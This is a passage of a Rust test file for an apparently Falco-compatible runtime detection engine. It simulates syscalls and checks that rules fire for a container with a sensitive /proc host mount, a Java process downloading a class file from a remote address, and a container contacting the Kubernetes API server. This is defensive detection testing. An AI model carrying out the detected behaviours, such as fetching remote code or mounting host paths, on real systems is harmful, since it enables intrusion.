    let mut id = from_shell(720, "id", "/usr/bin/id", &["id"]);
    id.env = vec!["KW_MARK= yes ", "A="];
    sim.spawn(&id);
    assert_eq!(
        id_messages(
            "mark=(%proc.env[KW_MARK]) unset=(%proc.env[NOPE]) all=(%proc.env)",
            sim
        ),
        ["mark=(yes) unset=() all=(KW_MARK= yes  A=)"]
    );
}

#[test]
fn mounts_and_runtime_come_from_the_pod_watch() {
    assert_eq!(
        id_messages(
            "type=%container.type m0=(%container.mount[0]) proc=%container.mount.dest[/proc*] src=%container.mount.source[/cache] rw=%container.mount.rdwr[/proc] none=%container.mount[/nope] unset=%container.mount.dest[/nope] all=(%container.mounts)",
            id_run(true, true)
        ),
        [
            "type=containerd m0=(/proc:/host/proc::false:rprivate) proc=/host/proc src=/var/lib/kubelet/pods/0c1d/volumes/kubernetes.io~empty-dir/cache rw=false none=none unset=<NA> all=(/proc:/host/proc::false:rprivate /var/lib/kubelet/pods/0c1d/volumes/kubernetes.io~empty-dir/cache:/cache::true:rprivate)"
        ]
    );
}

#[test]
fn a_container_started_with_a_sensitive_host_mount() {
    let Some(rules) = upstream_rules(&ALL_SYSCALL_RULESETS) else {
        return;
    };
    let mut sim = Sim::new();
    let sh = container(&mut sim);
    sim.snapshot(pod_metadata(false));
    // The container's first process: pid 1 in its pid namespace.
    let mut init = p(2150, 2000, "app", "/usr/bin/app", &["app"]);
    init.cgroup = sh.cgroup.clone();
    init.vpid = 1;
    sim.spawn(&init);
    assert_eq!(
        fired_only(&rules, sim, "Launch Sensitive Mount Container"),
        [(
            "Informational".to_owned(),
            "Container with sensitive mount started | mounts=/proc:/host/proc::false:rprivate /var/lib/kubelet/pods/0c1d/volumes/kubernetes.io~empty-dir/cache:/cache::true:rprivate evt_type=execve user=root user_uid=0 user_loginuid=-1 process=app proc_exepath=/usr/bin/app parent=containerd-shim command=app terminal=0".to_owned()
        )]
    );
}

#[test]
fn a_java_process_reading_a_class_file_from_the_network() {
    let Some(mut texts) = kubeward_testkit::upstream::read_all(&ALL_SYSCALL_RULESETS) else {
        return;
    };
    // The rule ships disabled; a user enables it with an override, as here.
    texts.push(
        "- rule: Java Process Class File Download\n  enabled: true\n  override:\n    enabled: replace\n"
            .to_owned(),
    );
    let names = [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
        "enable.yaml",
    ];
    let files: Vec<(&str, &str)> = names
        .iter()
        .zip(&texts)
        .map(|(n, t)| (*n, t.as_str()))
        .collect();
    let rules = load(&files);
    let mut sim = Sim::new();
    host(&mut sim);
    let java = p(
        730,
        1,
        "java",
        "/usr/lib/jvm/bin/java",
        &["/usr/lib/jvm/bin/java", "-jar", "app.jar"],
    );
    sim.spawn(&java);
    let mut s = Sock {
        family: 2,
        sock_type: 1,
        protocol: 6,
        ..Sock::default()
    };
    s.saddr[..4].copy_from_slice(&[10, 0, 0, 5]);
    s.sport = 41000;
    s.daddr[..4].copy_from_slice(&[203, 0, 113, 50]);
    s.dport = 8080u16.to_be();
    sim.syscall(730, 41, 7, &[2, 1, 6], &[&sock_bytes(&s)]);
    let addr = [2u8, 0, 0x1f, 0x90, 203, 0, 113, 50, 0, 0, 0, 0, 0, 0, 0, 0];
    sim.syscall(730, 42, 0, &[7, 0, 16], &[&addr, &sock_bytes(&s)]);
    // A class file's first bytes (magic 0xCAFEBABE); then a read of 2 bytes whose
    // buffer holds the magic after them, stale, not read. The probe copies 64 bytes, of
    // which the call's return value counts.
    for (read, data) in [
        (8, &[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34][..]),
        (2, b"xx\xca\xfe\xba\xbe"),
    ] {
        let mut buffer = data.to_vec();
        buffer.resize(64, 0);
        let sock = sock_bytes(&s);
        sim.syscall(730, 45, read, &[7, 0, 8192, 0, 0, 0], &[&buffer, &sock]);
    }
    assert_eq!(
        fired_only(&rules, sim, "Java Process Class File Download"),
        [(
            "Critical".to_owned(),
            "Java process class file download | server_ip=203.0.113.50 server_port=8080 connection=10.0.0.5:41000->203.0.113.50:8080 lport=41000 rport=8080 fd_type=ipv4 fd_proto=tcp evt_type=recvfrom user=root user_uid=0 user_loginuid=-1 process=java proc_exepath=/usr/lib/jvm/bin/java parent=systemd command=java -jar app.jar terminal=0".to_owned()
        )]
    );
}

#[test]
fn contact_the_api_server_from_a_container_by_its_name() {
    let Some(rules) = stable() else { return };
    let run = |resolved: bool| {
        let mut sim = Sim::new();
        let sh = container(&mut sim);
        sim.existing(&sh);
        if resolved {
            // What the resolver found for the name the rule compares fd.sip.name with.
            sim.snapshot(kubeward_syscall::state::Snapshot::Dns {
                name: std::sync::Arc::from("kubernetes.default.svc.cluster.local"),
                addrs: vec!["10.96.0.1".parse().expect("ip")],
            });
        }
        let mut s = Sock {
            family: 2,
            sock_type: 1,
            protocol: 6,
            ..Sock::default()
        };
        sim.syscall(2100, 41, 3, &[2, 1, 6], &[&sock_bytes(&s)]);
        s.saddr[..4].copy_from_slice(&[172, 17, 0, 2]);
        s.sport = 51000;
        s.daddr[..4].copy_from_slice(&[10, 96, 0, 1]);
        s.dport = 443u16.to_be();
        let addr = [2u8, 0, 1, 0xbb, 10, 96, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0];
        sim.syscall(2100, 42, 0, &[3, 0, 16], &[&addr, &sock_bytes(&s)]);
        fired_only(&rules, sim, "Contact K8S API Server From Container")
    };
    assert_eq!(
        run(true),
        [(
            "Notice".to_owned(),
            "Unexpected connection to K8s API Server from container | connection=172.17.0.2:51000->10.96.0.1:443 lport=443 rport=51000 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34816".to_owned()
        )]
    );
    // Unresolved, the address has no name: nothing fires. (lport/rport: the container's
    // address is not one of the recording host's, as in the redirect scenario.)
    assert_eq!(run(false), []);
}
